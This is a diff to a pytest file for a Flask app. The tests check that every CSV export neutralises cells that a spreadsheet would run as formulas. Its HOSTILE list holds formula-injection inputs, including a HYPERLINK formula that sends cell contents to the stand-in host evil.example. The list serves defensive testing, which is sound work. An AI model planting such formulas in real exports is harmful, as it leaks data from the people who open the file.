@@ -1,5 +1,9 @@
 """Every CSV export neutralises cells a spreadsheet would run as formulas, in every column, and says its
-Content-Type once."""
+Content-Type once.
+
+The exports are found in the app's URL map (every route ending ``.csv``; the hostile-input crawl checks
+that no other page answers ``text/csv``), and each cell of each export is shown to come out of the one
+neutralising function, whatever column it stands in."""
 
 from __future__ import annotations
 
@@ -9,15 +13,19 @@ from typing import Any
 
 import pytest
 import sqlalchemy as sa
+from flask import Flask
 from flask.testing import FlaskClient
 
 from gpect_workflow.models import Organisation, Person, PersonRole, Plan, Task
 from gpect_workflow.models.committee import CommitteeDecision
+from gpect_workflow.services import csv_export
 from gpect_workflow.services.context import session
 from gpect_workflow.services.csv_export import FORMULA_STARTS, csv_bytes, neutralise
 from tests.conftest import sign_in
 from tests.web.test_plan_reports import plan  # noqa: F401 - the fixture
 
+#: Every CSV download of the UI, by rule; the API answers JSON only (checked below).
+EXPORTS = ("/committee/report.csv", "/partners/import/example.csv", "/plans/<id:plan_id>/report.csv")
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-1", "@SUM(1)", "\t=1+1", "\r=1+1"]
 
 
@@ -82,3 +90,46 @@ def test_the_partners_import_example_is_neutral_and_says_its_charset_once(
     rows = table(sign_in(client, admin).get("/partners/import/example.csv"))
     assert_neutral(rows)
     assert len(rows) > 1
+
+
+def csv_rules(app: Flask) -> set[str]:
+    return {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
+
+
+def test_the_exports_tested_are_every_csv_route_of_the_app(app: Flask, client: FlaskClient) -> None:
+    assert csv_rules(app) == set(EXPORTS)
+    spec = client.get("/api/openapi.json").get_json()
+    media = {
+        media_type
+        for operations in spec["paths"].values()
+        for operation in operations.values()
+        if isinstance(operation, dict)
+        for answer in operation.get("responses", {}).values()
+        for media_type in answer.get("content", {})
+    }
+    assert not any("csv" in media_type for media_type in media), media
+
+
+def test_every_cell_of_every_export_comes_out_of_the_one_neutralising_function(
+    app: Flask, client: FlaskClient, hostile_plan: Plan, create_user: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Each export's cells, in every column, are exactly the outputs of ``neutralise``, in order: no export
+    writes a cell of its own, so the hostile starts above are neutralised in every column alike."""
+    made: list[str] = []
+
+    def spy(cell: object) -> str:
+        made.append(neutralise(cell))
+        return made[-1]
+
+    monkeypatch.setattr(csv_export, "neutralise", spy)
+    admin = create_user("admin@example.org", PersonRole.ADMIN)
+    session().commit()
+    sign_in(client, admin)
+    for rule in EXPORTS:
+        made.clear()
+        rows = table(client.get(rule.replace("<id:plan_id>", str(hostile_plan.id))))
+        cells = [cell for row in rows for cell in row]
+        assert cells == made, rule
+        assert_neutral(rows)
+        width = {len(row) for row in rows}
+        assert len(width) == 1, f"{rule}: rows of different widths {width}"
